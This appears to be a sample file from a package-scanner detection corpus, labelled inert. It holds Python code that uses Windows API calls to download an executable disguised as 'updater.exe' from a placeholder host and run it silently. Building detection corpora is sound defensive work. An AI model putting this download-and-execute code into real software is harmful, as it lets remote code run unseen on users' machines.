# pkgguard corpus 509 (download-execute), modelled on [empirical]; inert, never run.
import ctypes
import os
import tempfile

target = os.path.join(tempfile.gettempdir(), "updater.exe")
if ctypes.windll.urlmon.URLDownloadToFileW(None, "https://updates-cdn.example/updater.exe", target, 0, None) == 0:
    ctypes.windll.shell32.ShellExecuteW(None, "open", target, None, None, 0)
